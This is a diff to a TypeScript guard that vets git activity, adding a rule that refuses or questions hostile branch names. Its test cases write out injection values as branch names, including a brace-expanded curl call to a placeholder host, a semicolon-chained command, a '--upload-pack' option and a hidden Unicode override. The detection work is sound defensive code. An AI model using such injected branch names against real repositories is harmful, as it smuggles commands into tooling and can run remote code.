@@ -1,7 +1,7 @@
 /** Git keeps more than text: links, submodules, modes, binaries and names each get a look of their own. */
 import { z } from 'zod';
 import { joinsInstructions } from '../core/agents/files.ts';
-import { nameHazard } from '../core/changes/file-names.ts';
+import { branchHazard, nameHazard } from '../core/changes/file-names.ts';
 import { protectedPlace } from '../core/changes/protected.ts';
 import { guard } from '../core/contracts.ts';
 import type { FileChange, Opinion, Scene } from '../core/model.ts';
@@ -71,6 +71,21 @@ const name = (change: FileChange): Opinion[] => {
     : [];
 };
 
+const branchName = (branch: string): Opinion[] => {
+  const hazard = branchHazard(branch);
+  return hazard
+    ? [
+        {
+          decision: hazard.soft ? 'ask' : 'deny',
+          rule: 'branch-name',
+          message: `the branch name \`${shorten(branch, 160)}\` ${hazard.what}`,
+          fix: 'push the commits under a plain branch name',
+          subject: branch,
+        },
+      ]
+    : [];
+};
+
 const modes = (change: FileChange): Opinion[] => {
   const file = change.path.real;
   if (change.mode === '100755' && change.oldMode !== '100755' && !SCRIPT.test(file)) {
@@ -108,12 +123,13 @@ const collisions = (files: readonly FileChange[], scene: Scene): Opinion[] => {
 export const gitObjects = guard({
   id: 'git-objects',
   key: 'git_objects',
-  doc: 'Refuses links out of the tree or onto protected paths, hostile and colliding names; asks about submodules, new executables and unknown binaries.',
+  doc: 'Refuses links out of the tree or onto protected paths, hostile and colliding names of files, hostile names of branches; asks about submodules, new executables and unknown binaries.',
   options: z.strictObject({}),
   compile:
     () =>
     (effect, { scene }) => {
       if (effect.kind === 'change') return collisions(effect.files, scene);
+      if (effect.kind === 'text') return effect.source === 'branch' ? branchName(effect.text) : [];
       const change = effect.kind === 'write' ? effect.change : undefined;
       if (!change) return [];
       const kind =
@@ -202,6 +218,48 @@ export const gitObjects = guard({
       decision: 'ask',
       rule: 'binary',
       twin: { files: [{ path: 'logo.png', after: 'x', binary: true }] },
+    },
+    {
+      source: 'branch',
+      text: 'fix$({curl,-sSf,x.example}${IFS}-o-)',
+      decision: 'deny',
+      rule: 'branch-name',
+      twin: { source: 'branch', text: 'fix(scope)-thing' },
+    },
+    {
+      source: 'branch',
+      text: 'x;id',
+      decision: 'deny',
+      rule: 'branch-name',
+      twin: { source: 'branch', text: 'dependabot/npm_and_yarn/@types/node-20.1.0' },
+    },
+    {
+      source: 'branch',
+      text: 'a\u202eb',
+      decision: 'deny',
+      rule: 'branch-name',
+      twin: { source: 'branch', text: 'fix-#12' },
+    },
+    {
+      source: 'branch',
+      text: '--upload-pack=x',
+      decision: 'deny',
+      rule: 'branch-name',
+      twin: { source: 'branch', text: 'renovate/major-react-monorepo' },
+    },
+    {
+      source: 'branch',
+      text: 'main..x.lock',
+      decision: 'deny',
+      rule: 'branch-name',
+      twin: { source: 'branch', text: 'user@host' },
+    },
+    {
+      source: 'branch',
+      text: 'a&b-$HOME',
+      decision: 'ask',
+      rule: 'branch-name',
+      twin: { source: 'branch', text: 'copilot/fix-123' },
     },
   ],
 });
